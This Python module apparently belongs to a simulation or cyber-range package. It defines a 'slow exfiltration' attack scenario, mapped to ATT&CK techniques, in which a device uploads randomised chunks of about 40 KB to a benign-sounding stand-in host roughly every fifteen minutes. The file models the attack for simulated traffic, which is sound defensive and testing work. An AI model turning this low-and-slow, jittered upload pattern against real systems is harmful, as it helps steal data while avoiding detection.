"""Data copied out low and slow.

References: ATT&CK T1030 (size limits), T1029 (scheduled transfer).
"""

from collections.abc import Iterator
from dataclasses import dataclass

from wardline_range.attacks.exfiltrating import Exfiltration
from wardline_range.clock import Process


@dataclass(kw_only=True, eq=False)
class ExfiltrationSlow(Exfiltration):
    """A small upload every quarter of an hour or so."""

    name = "exfiltration-slow"
    techniques = ("T1041", "T1030", "T1029")
    description = "The device uploads a few dozen kilobytes to a host on the Internet four times an hour."

    host: str = "backup.cloud-notes.example"
    every_s: float = 900.0
    piece_bytes: int = 40_000

    def steps(self) -> Iterator[tuple[str, Process]]:
        """One step."""
        yield "upload", self._upload()

    def _upload(self) -> Iterator[float]:
        while True:
            talk = self.opened()
            self.put(talk, int(self.chance.around(self.piece_bytes, 0.4)))
            talk.close()
            yield self.chance.around(self.every_s, 0.4)
